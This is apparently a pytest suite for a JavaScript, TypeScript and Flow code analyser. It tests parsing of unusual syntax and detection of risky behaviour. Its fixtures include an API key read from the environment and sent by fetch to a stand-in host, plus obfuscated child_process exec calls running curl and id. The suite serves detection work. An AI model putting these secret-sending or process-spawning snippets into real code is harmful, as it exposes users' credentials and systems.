"""What the languages allow and the grammars do not is read; what only looks like it is not waved through."""

import pytest

from lazaretto.core.facts import Kind
from tests.languages.javascript_reading import flows, read, values

ALLOWED = {
    "targets-in-parentheses": "({a: (x), b: (y.z) = 1} = w); [(a), ...(b)] = c;",
    "targets-with-comments": "({a: (\n/** why */\nx\n)} = y);",
    "names-that-are-reserved": "export { a as delete, b as void }; export { function, void } from './x.js'; let a, b;",
    "documented-exports": "let a; export {\n  /** a({}) = b; */\n  a as catch\n}",
    "imports-that-are-reserved": "import { delete as a, default as b } from './x.js';",
    "attributes-passed-on": "export { default } from './x.json' with { type: 'json' };",
    "attributes-of-all-that-is-passed-on": "export * from './a.js' with {\n  'made-by': 'a tool',\n  phase: \"b\",\n};",
    "no-attributes": "export { a as 'b c' } from './a.js' with {};",
    "assertions": "import a from './x.json' assert { type: 'json' };",
    "private-name-alone": "class A {\n  #a\n\n  [b] = 1\n}",
    "spread-after-function": "const f = () => {\n}\n\n[...a].forEach(f)",
    "word-like-an-operator": "var a = b\nin_c = 1\nvar d = e\ninstanceofs = 2",
    "let-before-bracket": "let x\n[a] = b",
    "bytes-in-strings": "a = 'b\0c'; d = `\0`; e = /\0/;",
    "disposed": "{ using a = b; await using c = d; for (using e of f) ; }",
    "deferred": "import defer * as a from 'b'; import source c from 'd';",
}
TYPED = {
    "variance": "interface A<in out T, /** why */ out U extends B = C, in V> {}",
    "type-called-type": "type N<type> = (type extends F ? type : never) | { [K in keyof type]: N<type[K]> }",
    "type-passed-on": "export type * from './a';",
    "labels": "type A = { new: [new: type], b: [number: string, function?: C] }",
    "calls-without-ends": "let a: {\n  <A>(b: A): <C>(d: C) => A\n  // c\n  <A, C>(b: A): A // or\n  (e: F): G\n}",
    "members-without-ends": "interface A {\n  a?: number\n  in_b?: number\n}",
    "accessors": "class A { accessor a = 1; static accessor b = 2 }",
    "mapped": "type A = { [K in B]+?: C }",
    "quoted-templates": "type A = `the \\`b\\` of ${C}`",
    "lists-of-imported-types": "namespace a { export function f(b: import('./c.js').D[]) {} }",
}
FLOW = {
    "types": "type A = ?{ b?: string };\nexport type { A } from './a';\nfunction f(b: ?A, ...c: Array<?A>): void {}",
    "exact": "type A = {| b: string |}; const c: {||} = {};",
    "variance": "type A = { +b: string, -[c: string]: number };",
    "functions": "function f(b: Arg => Return): string => V { return b; }",
    "casts": "const a = f((b: any));",
    "imports": "import typeof A from 'a'; import type B from 'b'; opaque type C = string;",
    "pages": "const a = (b: C) => <div>{b}</div>;",
}
REFUSED = {
    "unclosed": "({a: (x)} = y); f(",
    "nonsense": "export { a as delete }; let a; ) (",
    "call-in-parentheses": "({a: (f())} = y);",
    "attributes-that-run": "export * from './a.js' with { type: run() };",
}


@pytest.mark.parametrize("source", ALLOWED.values(), ids=ALLOWED)
def test_what_node_accepts_is_understood(source: str) -> None:
    """These forms are valid; together they are as well."""
    assert read(source).problems == ()


@pytest.mark.parametrize("source", TYPED.values(), ids=TYPED)
def test_what_typescript_accepts_is_understood(source: str) -> None:
    """The same in TypeScript."""
    assert read(source, "typescript").problems == ()


@pytest.mark.parametrize("source", FLOW.values(), ids=FLOW)
def test_what_says_that_it_is_flow_is_read_with_types(source: str) -> None:
    """Only if it says so: nothing else in a file of JavaScript may have types."""
    assert read(f"/** @flow strict */\n{source}").problems == ()
    assert read(source).problems


def test_what_says_that_it_is_flow_hides_nothing() -> None:
    """What is a type to one reading and code to the other is seen, and so is what goes on from there."""
    facts = read(
        "// @flow\ntype A = ?string;\nf<import('a.invalid')>(1);\n"
        "const b: A = process.env.API_KEY;\nfetch('https://a.invalid/' + b);\nexport const c = (d) => fetch(d);"
    )
    assert facts.problems == ()
    assert "a.invalid" in values(facts, Kind.IMPORT)
    assert (Kind.SECRET_READ, Kind.NET_CONNECT) in flows(facts)
    assert facts.ports and facts.calls  # noqa: PT018 - either by the other
    assert len(set(facts.facts)) == len(facts.facts)


def test_flow_that_is_broken_is_a_problem() -> None:
    """Types are no excuse, and what is understood better without them stays as it was."""
    assert read("// @flow\ntype A = ?string; f(;").problems
    assert read("// @flow\nf(;").problems == read("// none\nf(;").problems


@pytest.mark.parametrize("source", REFUSED.values(), ids=REFUSED)
def test_what_nobody_accepts_is_a_problem(source: str) -> None:
    """A mend never makes up for something else."""
    assert read(source).problems


def test_several_gaps_are_mended_together() -> None:
    """One file may have all of them."""
    assert (
        read("\n;".join(ALLOWED[name] for name in ALLOWED if "import" not in name and name != "assertions")).problems
        == ()
    )


def test_what_helps_is_kept_though_something_else_is_broken() -> None:
    """The problem that is left stands at its own line, though an earlier line end was mended."""
    facts = read("let x\n[a] = b\nexport { a as delete }\nf(;\n")
    assert [problem.line for problem in facts.problems] == [4]


@pytest.mark.parametrize(
    "comment",
    ["// let x", "/**/ // in", "x = 1 // y", "<!-- let x", "--> let x"],
    ids=["let", "in", "word", "open", "close"],
)
@pytest.mark.parametrize("code", ["[require('child_process').exec('curl https://a.invalid')]", "[...eval('1')]"])
def test_no_mend_makes_a_comment_longer(comment: str, code: str) -> None:
    """A semicolon for the end of a comment's line would hide the line behind it."""
    facts = read(f"({{a: (q)}} = r);\nlet z\n[z] = q;\n{comment}\n{code};")
    assert values(facts, Kind.PROCESS_SPAWN) or values(facts, Kind.CODE_EVAL)


def test_what_stands_in_a_mended_file_is_followed() -> None:
    """Names and strings are those of the file as published."""
    source = (
        "let command, type;\n({a: (command)} = {a: 'curl https://a.invalid'});\nrequire('child_process').exec(command);"
    )
    assert "curl https://a.invalid" in values(read(source), Kind.PROCESS_SPAWN)


def test_a_disposed_name_holds_its_value() -> None:
    """``using`` declares as ``const`` does."""
    source = "{ using a = require('child_process'); a.exec('id') }"
    assert "id" in values(read(source), Kind.PROCESS_SPAWN)


def test_translations_are_no_typescript() -> None:
    """Qt calls its XML files by the same ending."""
    from lazaretto.languages import javascript

    assert javascript.claim("a/b.ts", b"<?xml version='1.0'?><TS/>") is None
    assert javascript.claim("a/b.ts", b"const a = 1") is not None


@pytest.mark.parametrize("length", [20, 60, 400])
def test_a_long_chain_is_followed_link_by_link(length: int) -> None:
    """Options of a command line are declared in chains of hundreds of calls; what is done to a string there counts."""
    links = ".concat('r').replace('rr', 'r')['trim']()" * length
    facts = read(f"require('child_process').exec('cu'{links}.concat('l https://a.invalid'));")
    assert facts.problems == ()
    assert "curl https://a.invalid" in values(facts, Kind.PROCESS_SPAWN)


def test_what_is_called_and_given_in_a_long_chain_is_followed() -> None:
    """Callbacks, templates and computed members of a chain are read like others."""
    links = ".option(`a`, (b) => b)[c](d)`e`" * 60
    facts = read(f"x{links}.then(() => require('child_process').exec('id')).f()()")
    assert facts.problems == ()
    assert values(facts, Kind.PROCESS_SPAWN)


def test_a_chain_in_a_chain_is_bounded() -> None:
    """What is nested in what is long is told, and not followed for ever."""
    source = "require('child_process').exec('id')"
    for _ in range(4):
        source = f"x.b({source})" + ".a(1)" * 90
    assert [problem.reason for problem in read(source).problems] == ["nested too deeply to be followed everywhere"]
